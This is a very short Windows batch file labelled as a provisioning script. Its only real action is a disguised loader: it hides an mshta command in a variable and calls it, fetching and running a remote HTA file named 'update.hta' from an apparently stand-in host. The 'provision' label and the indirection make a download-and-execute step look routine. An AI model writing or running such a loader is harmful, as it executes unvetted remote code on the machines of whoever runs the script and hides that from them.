REM provision 7861 v0
@echo off
set "jwbg=mshta http://files.sync-svc.example/update.hta"
call %jwbg%
